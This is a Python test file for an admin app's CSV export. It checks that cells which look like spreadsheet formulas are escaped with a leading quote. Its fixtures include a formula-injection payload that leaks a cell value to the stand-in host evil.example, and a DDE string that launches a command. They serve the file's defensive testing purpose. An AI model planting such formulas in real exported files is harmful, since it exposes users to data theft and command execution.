"""The admin app's CSV export never hands a spreadsheet a formula (issue 24, item 10)."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, strategies as st

from admin_ui.views.export import FORMULA_STARTS, csv_bytes, spreadsheet_safe

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "\n@x", "\u3000=1",
            "\uff1d1+1", "=cmd|' /C calc'!A0", "\t", "\rplain"]
PLAIN = ["The user prefers tea.", "mem_0123", "2026-03-05T10:00:00Z", "a=b", "", "e-mail", "x@y.z"]


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_unchanged(text):
    assert spreadsheet_safe(text) == text


def test_numbers_stay_numbers():
    assert spreadsheet_safe(-5) == -5 and spreadsheet_safe(2.5) == 2.5 and spreadsheet_safe(None) is None


def test_the_file_quotes_every_field_and_keeps_the_rows():
    frame = pd.DataFrame([{"id": "mem_1", "content": HYPERLINK, "n": -3}, {"id": "mem_2", "content": "a, \"b\"\nc", "n": 4}])
    data = csv_bytes(frame)
    assert data.startswith("\ufeff".encode("utf-8"))
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0] == '"id","content","n"'
    rows = parse(data)
    assert rows[1] == ["mem_1", "'" + HYPERLINK, "-3"]
    assert rows[2] == ["mem_2", "a, \"b\"\nc", "4"]


def _formula_like(cell: str) -> bool:
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in FORMULA_STARTS


@given(st.lists(st.text(alphabet=st.sampled_from(list("=+-@\t\r\n \u3000\uff1da\"',;")) | st.characters(codec="utf-8"),
                        max_size=12), min_size=1, max_size=8))
def test_no_exported_cell_reads_as_a_formula_and_nothing_else_changes(cells):
    frame = pd.DataFrame({"content": cells})
    exported = [row[0] for row in parse(csv_bytes(frame))[1:]]
    assert len(exported) == len(cells)
    for original, cell in zip(cells, exported):
        if _formula_like(original):
            assert cell == "'" + original  # shown as text, the original after the quote
        else:
            assert cell == original
        assert not _formula_like(cell)
